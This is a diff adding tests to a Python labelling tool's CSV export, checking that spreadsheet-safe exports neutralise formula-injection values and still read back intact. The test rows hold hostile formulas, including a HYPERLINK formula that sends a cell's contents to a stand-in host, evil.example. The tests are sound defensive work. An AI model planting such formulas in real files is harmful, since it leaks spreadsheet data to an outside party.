@@ -1,5 +1,7 @@
 """An export in each format: what is read back is what was written."""
 
+import csv
+import io
 import os
 import subprocess
 import sys
@@ -12,8 +14,9 @@ import pyarrow.parquet as pq  # type: ignore[import-untyped]
 import pytest
 
 from labelloop.errors import UserError
+from labelloop.pool.formulas import looks_like_formula
 from labelloop.pool.sources import load
-from labelloop.projects.formats import as_text, format_of, read_rows, write_rows
+from labelloop.projects.formats import as_text, format_of, formula_cells, read_rows, write_rows
 from tests.support.argilla_server import free_port
 from tests.support.hub import TOKEN, hub
 from tests.support.messages import names, raises_naming
@@ -273,3 +276,37 @@ def test_a_file_that_is_no_export_is_said_in_one_line(
 
     with raises_naming(UserError, tmp_path / name, *facts):
         read_rows(tmp_path / name)
+
+
+RUN = '=HYPERLINK("http://evil.example/?x="&A1)'
+HOSTILE_ROWS = [
+    row(0, text=RUN, label="+", labels=["+"], **{"=own": "@SUM(A1)"}),
+    row(1, text="-5", label="-5", labels=["-5"], probability=-1e-05, **{"=own": None}),
+    row(2, text="x;=1+1", votes=[vote("=ann", "submitted", "+", time=TIME)], **{"=own": "'=1"}),
+    row(3, text="\t=1", annotators=["-ann"], **{"=own": "it's fine"}),
+]
+
+
+def test_a_table_that_is_safe_for_spreadsheets_is_read_back_as_it_was(tmp_path: Path) -> None:
+    target = tmp_path / "labels.csv"
+
+    write_rows(HOSTILE_ROWS, target, "csv", safe=True)
+
+    assert formula_cells(HOSTILE_ROWS) == 5
+    with target.open(newline="", encoding="utf-8") as file:
+        shown = [cell for cells in csv.reader(file) for cell in cells]
+    assert [cell for cell in shown if looks_like_formula(cell)] == []
+    assert {"-5", "'+"} <= set(shown)
+    assert read_rows(target) == HOSTILE_ROWS
+    table = load(str(target), keep=["=own"])
+    assert table.texts == [each["text"] for each in HOSTILE_ROWS]
+    assert table.labels == [each["label"] for each in HOSTILE_ROWS]
+    assert table.kept["=own"] == [each["=own"] for each in HOSTILE_ROWS]
+
+
+def test_a_table_is_written_as_it_is_unless_it_is_for_spreadsheets(tmp_path: Path) -> None:
+    text = as_text(HOSTILE_ROWS, "csv")
+
+    assert [cells[0] for cells in csv.reader(io.StringIO(text, newline=""))][1:] == [
+        each["text"] for each in HOSTILE_ROWS
+    ]
